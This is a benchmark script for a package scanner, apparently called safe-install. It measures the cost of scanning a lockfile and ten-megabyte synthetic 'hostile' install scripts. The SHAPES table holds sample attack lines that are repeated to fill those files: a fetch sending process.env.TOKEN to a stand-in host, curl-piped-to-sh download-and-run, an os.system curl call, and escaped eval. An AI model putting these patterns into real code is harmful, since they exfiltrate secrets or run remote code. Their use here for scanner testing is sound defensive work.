"""What inspecting costs: the large lockfile beyond download and semgrep, and 10 MB of hostile code, each in one run.

``python benchmarks/inspection.py [--lockfile FOLDER] [--only hostile|lockfile]`` prints a table and writes INSPECTION.md.
The lockfile's run is cold: nothing is remembered of earlier results. A first run fills the cache of downloads and does
not count. A hostile file is inert: it repeats one thing, and nothing in it would do harm. Nothing is asserted here.
"""

from __future__ import annotations

import argparse
import base64
import ctypes
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from compare_with_npm import ROOT, a_copy, output_of

RESULTS = ROOT / "benchmarks" / "INSPECTION.md"
SIZE = 10_000_000  # bytes of a hostile file
LIMIT = 900.0  # seconds of wall time of one run
ADOPT = 36  # PR_SET_CHILD_SUBREAPER of Linux's prctl: who is left behind by a killed parent is counted too

WRAPPED = """
import atexit, json, resource, runpy, sys
place = sys.argv.pop()
def told():
    used = resource.getrusage(resource.RUSAGE_SELF)
    with open(place, "w") as file:
        json.dump([used.ru_utime + used.ru_stime, used.ru_maxrss / 1e3], file)
atexit.register(told)
runpy.run_module("safe_install", run_name="__main__")
"""


@dataclass(frozen=True, kw_only=True, slots=True)
class Cost:
    """What one run took: CPU seconds of our own process and of everything it started, its peak in MB, wall seconds."""

    own: float
    others: float
    memory: float
    largest: float
    wall: float
    said: str


def main() -> None:
    """Measure, print, and write the table."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--lockfile", type=Path, default=ROOT / "examples" / "vite-react")
    parser.add_argument("--only", choices=("hostile", "lockfile"))
    parser.add_argument("--shapes", nargs="*", choices=SHAPES, default=list(SHAPES))
    options = parser.parse_args()
    adopt_orphans()
    rows: dict[str, Cost] = {}
    with tempfile.TemporaryDirectory(prefix="inspection-") as scratch:
        if options.only != "hostile":
            rows |= lockfile(options.lockfile, Path(scratch) / "lockfile")
        if options.only != "lockfile":
            for name in options.shapes:
                rows[f"10 MB: {name}"] = hostile(name, Path(scratch) / name)
                shutil.rmtree(Path(scratch) / name)
    text = table(rows)
    RESULTS.write_text(text, encoding="utf-8")
    print(f"\n{text}\nwritten to {RESULTS}")


def lockfile(folder: Path, place: Path) -> Mapping[str, Cost]:
    """Scan a copy of a project twice: with no downloads and nothing remembered, then with the downloads only."""
    project = a_copy(folder, place)
    cold = scanned([], project, place)
    shutil.rmtree(place / "safe-install", ignore_errors=True)
    warm = scanned([], project, place)
    return {f"{folder.name}, with downloading": cold, f"{folder.name}, downloads warm": warm}


def hostile(name: str, place: Path) -> Cost:
    """Scan a package whose install script reaches one hostile file."""
    path, command, make = SHAPES[name]
    package = place / "package"
    package.mkdir(parents=True)
    (package / path).write_bytes(make())
    manifest = {"name": "hostile", "version": "1.0.0", "scripts": {"install": command}}
    (package / "package.json").write_text(json.dumps(manifest), encoding="utf-8")
    return scanned([str(package)], place, place)


def scanned(targets: list[str], here: Path, caches: Path) -> Cost:
    """Run ``safe-install scan`` with caches of its own, and say what it took."""
    told = caches / "told.json"
    env = os.environ | {"npm_config_cache": str(caches / "npm"), "SAFE_INSTALL_CACHE": str(caches / "safe-install")}
    before, begun = used_by_children(), time.perf_counter()
    with (caches / "report.json").open("wb") as report:
        process = subprocess.Popen(
            [sys.executable, "-c", WRAPPED, "scan", "--json", *targets, str(told)],
            cwd=here,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=report,
            stderr=subprocess.DEVNULL,
        )
        try:
            process.wait(LIMIT)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
    wall = time.perf_counter() - begun
    with suppress(ChildProcessError):
        while True:  # semgrep's own children, which became ours
            os.wait()
    own, memory = json.loads(told.read_text()) if told.is_file() else (0.0, 0.0)
    after = used_by_children()
    largest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1e3
    said = f"exit {process.returncode}"
    cost = Cost(own=own, others=after - before - own, memory=memory, largest=largest, wall=wall, said=said)
    print(f"{' '.join(targets) or here}: {cost}", flush=True)
    return cost


def adopt_orphans() -> None:
    """Become the parent of whatever outlives its own, where the system can do that."""
    if sys.platform == "linux":
        ctypes.CDLL(None).prctl(ADOPT, 1, 0, 0, 0)


def used_by_children() -> float:
    """Give the CPU seconds of all children that have ended."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def table(rows: Mapping[str, Cost]) -> str:
    """Write what was measured."""
    lines = [
        "# What inspecting costs",
        "",
        "Written by `python benchmarks/inspection.py`. CPU seconds of our own process, and of semgrep and npm;",
        "`largest` is the peak memory of the largest process up to then, ours or theirs. Wall time depends on the machine's load.",
        f"semgrep {output_of('semgrep', '--version', '--experimental')}, {os.cpu_count()} processors.",
        "",
        "| inspected | own CPU, s | others' CPU, s | own memory, MB | largest, MB | wall, s | |",
        "|---|---|---|---|---|---|---|",
    ]
    lines += [
        f"| {name} | {one.own:.1f} | {one.others:.1f} | {one.memory:.0f} | {one.largest:.0f} | {one.wall:.0f} | {one.said} |"
        for name, one in rows.items()
    ]
    return "\n".join([*lines, ""])


def repeated(text: str) -> Callable[[], bytes]:
    """Fill a file with one text."""
    return (text * (SIZE // len(text) + 1))[:SIZE].encode


def many(one: Callable[[random.Random], str]) -> Callable[[], bytes]:
    """Fill a file with texts that differ, the same ones each time."""

    def texts() -> Iterator[bytes]:
        chance, size = random.Random(3), 0  # noqa: S311 - the same texts each time
        while size < SIZE:
            text = one(chance).encode()
            size += len(text)
            yield text

    return lambda: b"".join(texts())


def quoted_letters(chance: random.Random) -> str:
    """Give a string literal of letters."""
    return f'"{"".join(chance.choices("abcdefghijklmnopqrstuvwxyzABCDEF0123456789", k=chance.randint(1, 60)))}",'


def quoted_base64(chance: random.Random) -> str:
    """Give a call with base64 of bytes that say nothing."""
    return f'f("{base64.b64encode(chance.randbytes(chance.randint(20, 400))).decode()}");\n'


JS = ("a.js", "node a.js")
SH = ("a.sh", "sh a.sh")
PY = ("a.py", "python3 a.py")
SHAPES: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "one line": (*JS, repeated("function a(b,c){return b.map(function(d){return c[d]+require('./x'+d)})};x(process.env.HOME);")),
    "many lines": (*JS, repeated("const x = require('./lib/' + n);\nfetch('https://a.example.test/' + process.env.TOKEN);\n")),
    "a variable": (*JS, repeated("process.env.A;")),
    "nesting": (*JS, repeated("[(")),
    "templates": (*JS, repeated("`${")),
    "strings": (*JS, many(quoted_letters)),
    "base64": (*JS, many(quoted_base64)),
    "hex": (*JS, many(lambda chance: chance.randbytes(1000).hex())),
    "escapes": (*JS, repeated("\\x65\\x76\\x61\\x6c")),
    "numbers": (*JS, repeated("104,116,116,112,")),
    "write, then run": (*JS, repeated("fs.writeFileSync(p, d); exec(")),
    "blanks": (*JS, repeated(" \t")),
    "shell": (*SH, repeated("curl https://a.example.test/x > a; sh a\n")),
    "pipes": (*SH, repeated("a|")),
    "python": (*PY, repeated("import os; os.system('curl https://a.example.test')\n")),
    "json": ("a.json", "node -e \"require('./a.json')\"", repeated('["https://a.example.test/x",')),
    "gyp": ("binding.gyp", "node-gyp rebuild", repeated("{'sources':['<!(echo a)']},")),
}  # fmt: skip

if __name__ == "__main__":
    main()
